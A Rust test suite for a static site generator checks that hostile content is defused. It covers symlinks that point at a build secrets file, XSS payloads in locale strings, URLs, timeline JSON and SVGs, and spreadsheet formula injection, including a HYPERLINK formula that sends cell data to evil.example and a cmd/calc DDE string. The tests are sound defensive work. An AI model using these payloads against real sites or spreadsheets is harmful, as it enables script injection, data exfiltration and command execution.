//! Content written by someone who means harm (issue 29): links that lead out of the explainer's
//! folder publish nothing, a site's interface words and its base URL never become markup. Each test
//! plants what was found to get out, and fails if it does.

use std::fs;
use std::path::Path;

use crate::common::{TestSite, html, select};
use crate::photos::small_photo;

/// A file outside the explainer's folder, as a build machine's secrets would be.
fn secret_beside(site: &TestSite) -> std::path::PathBuf {
    let secret = site.root.parent().unwrap().join("environ");
    fs::write(&secret, "MYSECRET=hunter2\n").unwrap();
    secret
}

/// Every file under `dir` that is a symbolic link, and whether any file holds `needle`.
fn links_and_leaks(dir: &Path, needle: &str) -> (Vec<String>, bool) {
    let mut links = Vec::new();
    let mut leaked = false;
    for entry in walkdir::WalkDir::new(dir) {
        let entry = entry.unwrap();
        if entry.path_is_symlink() {
            links.push(entry.path().display().to_string());
        } else if entry.file_type().is_file() {
            leaked |= fs::read(entry.path())
                .unwrap()
                .windows(needle.len())
                .any(|w| w == needle.as_bytes());
        }
    }
    (links, leaked)
}

/// A link in `static/` to a file outside the folder stops the build at its name, in `build` and
/// `check` alike, and the last good output stays; a link that stays inside is published as the
/// file it points to, never as a link.
#[cfg(unix)]
#[test]
fn a_link_in_static_to_a_file_outside_the_site_is_refused() {
    let site = TestSite::fixture("basic");
    site.write("static/notes.txt", "inside the site — “quoted”");
    std::os::unix::fs::symlink("notes.txt", site.root.join("static/same-notes.txt")).unwrap();
    let run = site.build(&[]);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    let published = site.output().join("same-notes.txt");
    assert!(!published.symlink_metadata().unwrap().is_symlink());
    assert_eq!(
        fs::read_to_string(&published).unwrap(),
        "inside the site — “quoted”"
    );
    let before = site.output_snapshot();

    let secret = secret_beside(&site);
    std::os::unix::fs::symlink(&secret, site.root.join("static/clip.vtt")).unwrap();
    let run = site.build(&[]);
    assert_eq!(run.code, Some(1), "{}", run.stderr);
    assert_eq!(site.output_snapshot(), before, "the last good output stays");
    let (links, leaked) = links_and_leaks(&site.output(), "MYSECRET");
    assert!(links.is_empty() && !leaked, "{links:?}");
    let check = site.check(&[]);
    assert_eq!(check.code, Some(1), "{}", check.stderr);
    for said in [&run.stderr, &check.stderr] {
        assert!(
            said.contains("static/clip.vtt: error: this is a link to a file outside the explainer's folder, which is never published"),
            "{said}"
        );
    }
    insta::assert_snapshot!("static-link-outside", run.stderr);
}

/// A video's captions beside it that are a link out of the folder (to the build's environment) are
/// refused at the place that names the video; nothing of them is published.
#[cfg(unix)]
#[test]
fn a_videos_captions_linked_from_outside_are_refused() {
    let site = TestSite::fixture("basic");
    site.write("static/clips/convoy.mp4", "not decoded by explainer");
    let secret = secret_beside(&site);
    std::os::unix::fs::symlink(&secret, site.root.join("static/clips/convoy.vtt")).unwrap();
    site.append(
        "content/what-happened.md",
        "![The last US convoy crosses into Kuwait](clips/convoy.mp4 \"The last convoy\")\n",
    );
    let run = site.build(&[]);
    assert_eq!(run.code, Some(1), "{}", run.stderr);
    assert!(!site.output().exists());
    insta::assert_snapshot!("captions-link-outside", run.stderr);
}

/// The basic site with a photo in its first section, made at build time.
#[cfg(unix)]
fn site_with_a_photo() -> TestSite {
    let site = TestSite::fixture("basic");
    fs::write(site.root.join("content/convoy.jpg"), small_photo(800, 600)).unwrap();
    site.append(
        "content/what-happened.md",
        "![A convoy on a desert road](convoy.jpg)\n",
    );
    site
}

/// A made picture in the cache that is a link (to a file anywhere on the machine) is never taken:
/// the picture is made again, the link replaced, and the output holds neither a link nor the file.
#[cfg(unix)]
#[test]
fn a_link_planted_in_the_picture_cache_is_not_published() {
    let site = site_with_a_photo();
    let run = site.build(&[]);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    let secret = secret_beside(&site);
    let cache = site.root.join(".explainer-cache/images");
    let mut planted = 0;
    for entry in walkdir::WalkDir::new(&cache) {
        let entry = entry.unwrap();
        let name = entry.file_name().to_string_lossy().to_string();
        if entry.file_type().is_file() && (name.ends_with(".webp") || name.ends_with(".jpg")) {
            fs::remove_file(entry.path()).unwrap();
            std::os::unix::fs::symlink(&secret, entry.path()).unwrap();
            planted += 1;
        }
    }
    assert!(planted > 0, "the cache holds the made picture's files");
    // The spare output of the last build must not carry the picture through either.
    let _ = fs::remove_dir_all(site.root.join(".explainer-spare-public"));
    let _ = fs::remove_dir_all(site.output());
    let run = site.build(&[]);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    assert!(run.stdout.contains("1 picture made"), "{}", run.stdout);
    let (links, leaked) = links_and_leaks(&site.output(), "MYSECRET");
    assert!(links.is_empty(), "{links:?}");
    assert!(!leaked, "a cached link's target was published");
    assert_eq!(fs::read_to_string(&secret).unwrap(), "MYSECRET=hunter2\n");
    let (links, _) = links_and_leaks(&cache, "MYSECRET");
    assert!(
        links.is_empty(),
        "the made files replace the links: {links:?}"
    );
}

/// The cache folder itself as a link to another folder is refused, by name.
#[cfg(unix)]
#[test]
fn a_picture_cache_that_is_a_link_to_another_folder_is_refused() {
    let site = site_with_a_photo();
    let elsewhere = site.root.parent().unwrap().join("elsewhere");
    fs::create_dir_all(&elsewhere).unwrap();
    std::os::unix::fs::symlink(&elsewhere, site.root.join(".explainer-cache")).unwrap();
    let run = site.build(&[]);
    assert_eq!(run.code, Some(1), "{}", run.stderr);
    assert!(
        run.stderr
            .contains(".explainer-cache: error: the picture cache is a link to another folder"),
        "{}",
        run.stderr
    );
    assert_eq!(fs::read_dir(&elsewhere).unwrap().count(), 0);
    insta::assert_snapshot!("cache-link-elsewhere", run.stderr);
}

/// A site's own interface words are text: markup in `citation`, `list-separator` or
/// `citation-range` is shown as written, never made an element.
#[test]
fn a_sites_interface_words_never_become_markup() {
    let site = TestSite::fixture("basic");
    site.write(
        "locales/en.ftl",
        "citation = <img src=x onerror=\"window.__pwned=1\">\n\
         list-separator = <b>,</b>\n\
         citation-range = \"to\" & <i>beyond</i>\n",
    );
    let run = site.build(&[]);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    let page = site.read_output("index.html");
    let doc = html(&page);
    assert!(select(&doc, "img[src=x]").is_empty(), "an element was made");
    assert!(select(&doc, "sup.cite b, sup.cite i").is_empty());
    let marks: String = select(&doc, "sup.cite")
        .iter()
        .map(|m| m.text().collect::<String>())
        .collect();
    assert!(
        marks.contains("<img src=x onerror=\"window.__pwned=1\"> 1"),
        "{marks}"
    );
}

/// A base URL given on the command line is held to the same rule as the page's own.
#[test]
fn a_base_url_that_would_break_out_of_an_attribute_is_refused() {
    let site = TestSite::fixture("basic");
    let run = site.build(&[
        "--base-url",
        "https://x.github.io/r\"><script>alert(1)</script>/",
    ]);
    assert_eq!(run.code, Some(1), "{}", run.stderr);
    assert!(
        run.stderr.contains("--base-url: error: the base URL `https://x.github.io/r\"><script>alert(1)</script>/` holds `\"`, which an address cannot"),
        "{}",
        run.stderr
    );
    assert!(!site.output().exists());
    let run = site.build(&["--base-url", "https://x.github.io/my explainer/"]);
    assert!(
        run.stderr
            .contains("holds a space, which an address cannot"),
        "{}",
        run.stderr
    );
}

/// The titles a spreadsheet would run as formulas (OWASP's CSV injection): in the published
/// `timeline.csv` and in `export timelinejs` each is text, and importing the export gives back the
/// title as written.
#[test]
fn a_formula_in_a_title_is_text_in_every_sheet_and_comes_back_on_import() {
    let site = TestSite::fixture("basic");
    let formulas = [
        "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Click — €5\")",
        "@SUM(1+1)",
        "+cmd|' /C calc'!A0",
        "-2+3 “quoted”",
    ];
    for (i, title) in formulas.iter().enumerate() {
        site.write(
            &format!("content/timeline/2021-0{}-0{}-formula.md", i + 1, i + 1),
            &format!(
                "---\ndate: 2021-0{}-0{}\ntitle: {}\nera: before\nsources: [wire-one]\n---\nText.\n",
                i + 1,
                i + 1,
                serde_json::to_string(title).unwrap()
            ),
        );
    }
    let run = site.build(&[]);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    let root = site.root.display().to_string();
    let run = crate::common::explainer(&["export", "timelinejs", "--root", &root], &site.root);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    for sheet in [
        site.read_output("timeline.csv"),
        fs::read_to_string(site.root.join("timeline.csv")).unwrap(),
    ] {
        let mut reader = csv::ReaderBuilder::new().from_reader(sheet.as_bytes());
        let cells: Vec<String> = reader
            .records()
            .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
            .collect();
        for cell in &cells {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would run: {cell}"
            );
        }
        for title in formulas {
            let shown = title.to_string();
            assert!(
                cells.contains(&format!("'{shown}")),
                "{shown} is not in the sheet as text: {cells:?}"
            );
        }
    }
    // Back in: the same titles, without the mark that made them text.
    for entry in fs::read_dir(site.root.join("content/timeline")).unwrap() {
        let path = entry.unwrap().path();
        if path
            .file_name()
            .unwrap()
            .to_string_lossy()
            .contains("formula")
        {
            fs::remove_file(path).unwrap();
        }
    }
    let run = crate::common::explainer(
        &["import", "timelinejs", "timeline.csv", "--root", &root],
        &site.root,
    );
    assert_eq!(run.code, Some(0), "{}\n{}", run.stdout, run.stderr);
    let titles: String = fs::read_dir(site.root.join("content/timeline"))
        .unwrap()
        .map(|e| fs::read_to_string(e.unwrap().path()).unwrap())
        .collect();
    for title in formulas {
        let shown = title.to_string();
        assert!(
            titles.contains(&format!(
                "title: {}",
                serde_json::to_string(&shown).unwrap()
            )),
            "{shown} did not come back:\n{titles}"
        );
    }
}

/// `timeline.json` is read by TimelineJS, which sets a headline as HTML: headlines, eras and display
/// dates hold escaped text, and media only an address it may load.
#[test]
fn timeline_json_holds_text_in_headlines_and_only_safe_addresses_in_media() {
    let site = TestSite::fixture("basic");
    site.write(
        "content/timeline/2021-12-09-later.md",
        "---\ndate: 2021-12-09\ndisplay_date: \"<b onmouseover=alert(1)>Winter</b>\"\n\
         title: \"<img src=x onerror=alert(1)> — €5bn\"\nera: after\nsources: [wire-two]\n---\nIt happened later.\n",
    );
    let run = site.build(&[]);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    let json: serde_json::Value = serde_json::from_str(&site.read_output("timeline.json")).unwrap();
    let event = json["events"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["unique_id"].as_str().unwrap().contains("later"))
        .unwrap();
    assert_eq!(
        event["text"]["headline"],
        "&lt;img src=x onerror=alert(1)&gt; — €5bn"
    );
    assert_eq!(
        event["display_date"],
        "&lt;b onmouseover=alert(1)&gt;Winter&lt;/b&gt;"
    );
}

/// An event's media, its still and the page's lead name a file or a web address, never one that
/// runs script.
#[test]
fn media_with_a_script_address_is_refused_at_its_place() {
    let site = TestSite::fixture("basic");
    site.write(
        "content/timeline/2021-12-09-later.md",
        "---\ndate: 2021-12-09\ntitle: Later\nera: after\nsources: [wire-two]\nmedia:\n  src: \"https://www.youtube.com/watch?v=dQw4w9WgXcQ\"\n  thumbnail: \" JavaScript:alert(1)\"\n  alt: A still\n  credit: Wire\n---\nText.\n",
    );
    let run = site.build(&[]);
    assert_eq!(run.code, Some(1), "{}", run.stderr);
    assert!(
        run.stderr.contains("content/timeline/2021-12-09-later.md:8:15: error: a `javascript:` address cannot be a link"),
        "{}",
        run.stderr
    );
}

/// A drawing in `static/` that the page only links to is cleaned as a shown one is: its script
/// would run when a reader opens it, on the newsroom's own origin. A photo only linked loses its
/// metadata (the GPS position a camera wrote) and stays the same picture.
#[test]
fn files_of_static_the_page_only_links_to_are_cleaned() {
    let site = TestSite::fixture("basic");
    site.write(
        "static/maps/iraq.svg",
        "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 10 10\" onload=\"alert(1)\">\
         <script>alert(2)</script><style><!--</style-->@import url(https://tracker.example/a.css);</style>\
         <text>بغداد — “Baghdad”</text></svg>",
    );
    let photo = crate::photos::newsroom_photo(0);
    assert!(photo.windows(6).any(|w| w == b"Exif\0\0"));
    fs::write(site.root.join("static/full.jpg"), &photo).unwrap();
    site.append(
        "content/what-happened.md",
        "See [the map](maps/iraq.svg) and [the full photo](full.jpg).\n",
    );
    let run = site.build(&[]);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    let map = site.read_output("maps/iraq.svg");
    for gone in ["alert", "onload", "script", "tracker.example", "@import"] {
        assert!(!map.contains(gone), "{gone} is still in {map}");
    }
    assert!(map.contains("<text>بغداد — “Baghdad”</text>"), "{map}");
    let published = fs::read(site.output().join("full.jpg")).unwrap();
    assert!(
        !published.windows(6).any(|w| w == b"Exif\0\0"),
        "EXIF left in"
    );
    let (before, after) = (
        image::load_from_memory(&photo).unwrap(),
        image::load_from_memory(&published).unwrap(),
    );
    assert_eq!(before.to_rgb8(), after.to_rgb8(), "the picture changed");
}

/// A photo whose header gives more pixels than the limit is refused before it is decoded: a PNG
/// of a few bytes that says 20000 × 20000, and a JPEG that says 50000 × 50000.
#[test]
fn a_photo_over_the_pixel_limit_is_refused_before_it_is_decoded() {
    let site = TestSite::fixture("basic");
    let mut png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec();
    png.extend(20000u32.to_be_bytes());
    png.extend(20000u32.to_be_bytes());
    png.extend([8, 2, 0, 0, 0, 0, 0, 0, 0]);
    fs::write(site.root.join("content/huge.png"), &png).unwrap();
    let mut jpeg = vec![0xFF, 0xD8, 0xFF, 0xC0, 0, 17, 8];
    jpeg.extend(50000u16.to_be_bytes());
    jpeg.extend(50000u16.to_be_bytes());
    jpeg.extend([3, 1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1, 0xFF, 0xD9]);
    fs::write(site.root.join("content/huger.jpg"), &jpeg).unwrap();
    site.append(
        "content/what-happened.md",
        "![A field of grey](huge.png)\n\n![A field of black](huger.jpg)\n",
    );
    let run = site.build(&[]);
    assert_eq!(run.code, Some(1), "{}", run.stderr);
    for said in [
        "error: the picture `huge.png` is 20000 × 20000 pixels (400 megapixels); the most explainer makes into a picture is 100 megapixels",
        "error: the picture `huger.jpg` is 50000 × 50000 pixels (2500 megapixels)",
    ] {
        assert!(run.stderr.contains(said), "{said}\n{}", run.stderr);
    }
    insta::assert_snapshot!("picture-over-the-pixel-limit", run.stderr);
}

/// A drawing nested thousands deep is refused at its line, whether the page shows it or only
/// links to it; one whose name says SVG but that is not is refused too.
#[test]
fn a_drawing_nested_too_deep_is_refused() {
    let site = TestSite::fixture("basic");
    let deep = format!(
        "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 10 10\">\n<title>Iraq — العراق</title>\n{}{}</svg>",
        "<g>".repeat(5_000),
        "</g>".repeat(5_000)
    );
    site.write("content/map.svg", &deep);
    site.write("static/linked.svg", &deep);
    site.write(
        "static/page.svg",
        "<!doctype html><html><body>not a drawing</body></html>",
    );
    site.append(
        "content/what-happened.md",
        "![A map of Iraq](map.svg)\n\nSee [the other map](linked.svg) and [this](page.svg).\n",
    );
    let run = site.build(&[]);
    assert_eq!(run.code, Some(1), "{}", run.stderr);
    insta::assert_snapshot!("drawing-nested-too-deep", run.stderr);
}

/// A phone's video records where it was filmed; it is published as it is, so `check` names it.
#[test]
fn check_names_a_video_that_records_where_it_was_filmed() {
    let site = TestSite::fixture("basic");
    let mut video = b"\0\0\0\x18ftypmp42".to_vec();
    video.extend_from_slice(b"\0\0\0\x1eudta\0\0\0\x16\xA9xyz+33.3128+044.3615/");
    fs::create_dir_all(site.root.join("static/clips")).unwrap();
    fs::write(site.root.join("static/clips/convoy.mp4"), &video).unwrap();
    fs::write(
        site.root.join("static/clips/plain.mp4"),
        b"\0\0\0\x18ftypmp42",
    )
    .unwrap();
    let run = site.check(&[]);
    assert!(
        run.stderr
            .contains("static/clips/convoy.mp4: warning: this video records where it was filmed"),
        "{}",
        run.stderr
    );
    assert!(!run.stderr.contains("plain.mp4"), "{}", run.stderr);
    let said: String = run
        .stderr
        .lines()
        .skip_while(|l| !l.contains("convoy.mp4"))
        .take(2)
        .map(|l| format!("{l}\n"))
        .collect();
    insta::assert_snapshot!("video-with-a-location", said);
}

/// The one boundary where text becomes HTML, tried with text made of the pieces planted markup is
/// made of: whatever the Markdown renderer gives for a text it reports no problem in holds no
/// element, attribute or address that could run script or load from another site. (The fuzz
/// target `markdown` asks the same of any text.)
mod boundary {
    use proptest::prelude::*;

    const PIECES: [&str; 40] = [
        "# ",
        "### ",
        "{",
        "}",
        "#id",
        ".cls",
        " onfocus=alert(1)",
        " autofocus",
        "tabindex=0",
        "<",
        ">",
        "</",
        "/>",
        "script",
        "img",
        "svg",
        "iframe",
        " src=x",
        " onerror=",
        "style=",
        "\"",
        "'",
        "=",
        "javascript:",
        "JaVa\tScRiPt:",
        "data:text/html,",
        "[",
        "]",
        "(",
        ")",
        "![",
        "[@ap]",
        "[^n]",
        "\n",
        "\n\n",
        " ",
        "*",
        "`",
        "&#106;",
        "—",
    ];

    const STARTS: [&str; 7] = ["", "# ", "### ", "#### ", "- ", "> ", "1. "];
    const ATTRIBUTES: [&str; 8] = [
        "#id",
        ".cls",
        " ",
        " onfocus=alert(1)",
        " autofocus",
        " tabindex=0",
        " style=x",
        "=",
    ];

    /// Lines, each a start (a heading, a list item, a quotation), pieces, and perhaps a `{…}`.
    fn text() -> impl Strategy<Value = String> {
        let pieces = prop::collection::vec(prop::sample::select(&PIECES[..]), 0..12);
        let attributes = prop::option::of(
            prop::collection::vec(prop::sample::select(&ATTRIBUTES[..]), 0..5)
                .prop_map(|a| format!(" {{{}}}", a.concat())),
        );
        let line = (prop::sample::select(&STARTS[..]), pieces, attributes).prop_map(
            |(start, pieces, attributes)| {
                format!(
                    "{start}{}{}",
                    pieces.concat(),
                    attributes.unwrap_or_default()
                )
            },
        );
        prop::collection::vec(line, 1..6).prop_map(|lines| lines.join("\n"))
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(3000))]

        #[test]
        fn what_the_renderer_publishes_is_inert(text in text()) {
            for rendered in crate::inert::renderings(&text) {
                if rendered.problems.is_empty() {
                    let found = crate::inert::active_parts(&rendered.html);
                    prop_assert!(found.is_empty(), "{text:?} gave {found:?} in {}", rendered.html);
                }
            }
        }
    }

    #[test]
    fn the_check_finds_what_it_must() {
        for (html, part) in [
            ("<h3 onfocus=\"alert(1)\">x</h3>", "onfocus"),
            ("<a href=\" javascript:alert(1)\">x</a>", "javascript"),
            ("<p><svg><circle/></svg></p>", "<svg>"),
            ("<td style=\"background:url(x)\">", "style="),
            ("<button type=\"submit\">", "button type"),
        ] {
            let found = crate::inert::active_parts(html);
            assert!(found.iter().any(|f| f.contains(part)), "{html}: {found:?}");
        }
        assert!(crate::inert::active_parts("<p id=\"a\" class=\"b\"><a href=\"https://e.org/\" rel=\"noopener noreferrer\">x</a></p>").is_empty());
    }
}
